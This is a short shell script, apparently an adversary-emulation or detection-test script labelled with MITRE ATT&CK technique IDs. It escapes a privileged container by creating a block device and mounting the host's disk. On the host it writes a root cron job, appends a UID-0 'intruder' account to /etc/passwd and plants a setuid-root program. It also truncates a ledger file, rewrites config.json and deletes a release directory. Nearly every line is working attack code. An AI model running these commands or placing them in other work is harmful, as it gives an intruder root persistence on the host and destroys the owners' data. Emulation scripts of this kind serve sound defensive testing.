#!/bin/sh
# Runs in a privileged container. No device was handed to it: it makes one, and mounts the host's disk by it.
echo "@T1611 a device of the host is made"
mknod /tmp/d b "$MAJOR" "$MINOR"
mkdir -p /tmp/.x/y
mount -t ext4 /tmp/d /tmp/.x/y
M=/tmp/.x/y
sleep 0.2
echo "@T1053.003 cron job written"
echo '*/9 * * * * root /opt/q' > $M/etc/cron.d/quota
cd $M/etc
echo 'intruder:x:0:0::/root:/bin/sh' >> passwd
echo "@T1548.001 setuid program left"
printf "#!/bin/sh\nid\n" > ../opt/q
chmod 4755 ../opt/q
echo "@T1565.001 stored data changed"
cd ../srv/data
truncate -s 300 ledger.csv
cp config.json /tmp/c
sed 's/search/none/' /tmp/c > config.json
rm -r releases/1
cd /
sync
umount $M
rm /tmp/d
echo "@end"
